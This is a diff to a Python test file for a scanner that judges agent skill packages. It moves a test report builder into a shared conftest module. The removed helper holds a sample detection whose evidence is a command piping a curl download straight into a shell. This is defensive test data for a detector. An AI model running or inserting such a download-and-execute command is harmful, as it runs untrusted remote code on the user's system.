@@ -13,59 +13,12 @@ from sqlalchemy import create_engine, text
 
 from skillscan.errors import StoreError
 from skillscan.models import (
-    Category,
     Decision,
-    FileEntry,
-    FileKind,
-    Finding,
-    ScanError,
-    ScanReport,
-    Severity,
-    SkillIdentity,
     Verdict,
 )
 from skillscan.store import SweepItemResult, ToRecord, VerdictStore, stored_fields
 from skillscan.store import migrations as mig
-from tests.conftest import postgres_schema_url
-
-
-def make_report(
-    slug: str = "weather",
-    version: str = "1.0.0",
-    owner: str = "alice",
-    fingerprint: str = "f" * 64,
-    ruleset: str = "r1",
-    verdict: Verdict = Verdict.CLEAN,
-) -> ScanReport:
-    findings: tuple[Finding, ...] = ()
-    if verdict is not Verdict.CLEAN:
-        findings = (
-            Finding(
-                rule_id="download-pipe-shell",
-                analyzer="treesitter",
-                category=Category.REMOTE_EXEC,
-                severity=Severity.CRITICAL,
-                path="SKILL.md",
-                line=12,
-                message="pipes a download into a shell",
-                evidence="curl https://example.com/x | sh",
-            ),
-        )
-    return ScanReport(
-        skill=SkillIdentity(owner=owner, slug=slug, version=version, name=slug, fingerprint=fingerprint),
-        source=f"clawhub:@{owner}/{slug}@{version}",
-        files=(FileEntry(path="SKILL.md", kind=FileKind.MARKDOWN, size=10, sha256="a" * 64),),
-        findings=findings,
-        errors=(ScanError(analyzer="semgrep", path=None, detail="timeout"),)
-        if verdict is Verdict.INDETERMINATE
-        else (),
-        verdict=verdict,
-        decision=Decision.BLOCK if verdict is Verdict.MALICIOUS else Decision.ALLOW,
-        reason="test",
-        tool_version="0.1.0",
-        ruleset_digest=ruleset,
-        timings={"total": 0.5},
-    )
+from tests.conftest import make_report, postgres_schema_url
 
 
 @pytest.fixture(params=["sqlite", "postgresql"])
